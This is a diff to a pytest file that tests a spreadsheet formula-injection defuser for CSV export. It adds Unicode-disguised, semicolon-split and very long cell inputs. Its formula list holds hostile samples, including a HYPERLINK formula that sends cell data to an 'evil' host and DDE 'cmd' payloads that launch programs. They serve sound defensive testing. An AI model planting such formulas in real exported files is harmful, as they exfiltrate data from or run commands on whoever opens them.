@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+import time
 from pathlib import Path
 
 import pandas as pd
@@ -19,7 +21,9 @@ from submissions import pack, write_lines
 ROOT = Path(__file__).parents[2]
 FORMULAS = [
     '=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C'!A0",
-    "\t=1", "\r=1", "'=1", "''+x",
+    "\t=1", "\r=1", "'=1", "''+x", " =1", "\n=1", "\u00a0=1", "\u3000+1", "\ufeff=1", "\x00=1", "\u200b@a",
+    "\u00ad-a", "\U000e0041=1", "\ufe0f=1", "\u3164=1", "\u2800=1", "\x1f=1", "\x85=1", "\u2028=1", "\uff1d1+1",
+    "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\ufe661", "\u22121+1", " \ufeff \u200b=1", "-1;=1", "-1\n=1",
 ]  # fmt: skip
 NUMBERS = ["-1.5", "+2", "-1e-7", "-.5", "-1,234.5", "-12 %", "-inf", "+nan", "-", "+", "1", ""]
 START = tuple("=+-@\t\r")
@@ -32,6 +36,54 @@ def test_a_formula_becomes_text_and_comes_back(text: str) -> None:
     assert restore_cell(cell) == text
 
 
+@pytest.mark.parametrize("cell", ["a;{}", "a;b; {};c", "a\t{}", "a\n{}", "-1;{}", "=1;{}", "\t;{}"])
+@pytest.mark.parametrize("formula", ["=1+1", "@x", "'=1", "\u200b=1", "-1+1"])
+def test_a_formula_where_a_program_may_split_the_cell(cell: str, formula: str) -> None:
+    text = cell.format(formula)
+    defused = defuse_cell(text)
+    assert f";{text}" != defused
+    for part in re.split("[;\t\n\r]", defused):
+        assert part in NUMBERS or not re.sub(r"[\s\u200b]", "", part).startswith(START)
+    assert restore_cell(defused) == text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "1;-2;-.5",
+        "1.5;x",
+        "-",
+        "-;+",
+        " -1.5",
+        "-1 ; +2e5 ",
+        "a - b",
+        "a = b; c",
+        "a@b.c; d",
+        "1-2",
+    ],
+)
+def test_lists_of_numbers_and_signs_inside_of_words_stay(text: str) -> None:
+    assert defuse_cell(text) == text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "1" + " " * 50_000 + "x",
+        "-" + "1" * 50_000 + "x",
+        " " * 50_000,
+        ";" * 50_000,
+        "'" * 20_000,
+        " ;" * 20_000 + "=",
+        "\ufeff" * 50_000 + "a",
+    ],
+)
+def test_a_long_cell_takes_no_time(text: str) -> None:
+    started = time.process_time()
+    assert restore_cell(defuse_cell(text)) == text
+    assert time.process_time() - started < 0.5
+
+
 @pytest.mark.parametrize("text", [*NUMBERS, "a", "'quoted'", "a=1", "歌"])
 def test_numbers_and_other_texts_stay(text: str) -> None:
     assert defuse_cell(text) == text
@@ -39,7 +91,7 @@ def test_numbers_and_other_texts_stay(text: str) -> None:
     assert defuse_cell(-1.5) == -1.5
 
 
-@given(st.text("'=+-@\t\ra1. ", max_size=8))
+@given(st.text("'=+-@\t\r\na1.; %e\ufeff\uff1d", max_size=8))
 def test_every_text_comes_back(text: str) -> None:
     cell = defuse_cell(text)
     assert restore_cell(cell) == text
@@ -59,12 +111,13 @@ def test_a_frame_has_harmless_cells_and_columns_and_the_same_numbers() -> None:
 
 
 def test_tables_that_this_program_wrote_are_read_as_they_were(tmp_path: Path) -> None:
-    texts = [text for text in FORMULAS if text == text.strip()] + ["-1.5", "'a'"]
+    texts = [text for text in FORMULAS if not re.search(r"[\x00-\x1f\x7f-\x9f]", text)]
+    texts += ["a;=1", "-1.5", "'a'"]
     for suffix in (".csv", ".txt"):
         path = tmp_path / f"t{suffix}"
         with open(path, "w", newline="", encoding="utf-8") as file:
             write_rows(file, ["video", "=score"], [[text, -1.5] for text in texts])
-        assert not any(line.startswith(START) for line in path.read_text().splitlines()[1:-2])
+        assert not any(line.startswith(START) for line in path.read_text("utf-8").split("\n")[1:-3])
         table = read_table(path)
         assert table.columns["video"] == texts
         assert list(table.columns) == ["video", "=score"]
